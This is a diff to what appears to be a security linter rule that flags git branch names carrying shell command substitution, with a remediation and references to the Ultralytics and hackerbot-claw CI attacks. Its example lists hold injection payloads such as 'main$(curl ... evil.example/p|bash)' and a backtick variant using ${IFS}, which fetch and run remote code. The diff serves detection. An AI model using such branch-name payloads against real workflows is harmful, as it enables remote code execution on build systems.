@@ -11,6 +11,10 @@ export const meta: RuleMeta = {
     `The name contains $( … ), a backtick pair or <( … ): any script or workflow that interpolates it into a shell (echo "\${{ github.head_ref }}", git pull origin $BRANCH) runs the command. This is how the Ultralytics (2024) and hackerbot-claw (2026) attacks worked; git accepts such names.`,
   remediation: 'delete the ref (git push origin --delete NAME); in workflows pass ref names through env: and quote them ("$HEAD_REF")',
   example: {bad: 'main$(curl -sSfL evil.example/p|bash)', good: 'feature/JIRA-123-login'},
+  examples: {
+    flagged: ['main$(curl -sSfL evil.example/p|bash)', `fix\`curl\${IFS}evil.example/x|sh\``],
+    clean: ['feature/JIRA-123-login', 'fix/price-rounding'],
+  },
 }
 
 export const rule: NameRule = {
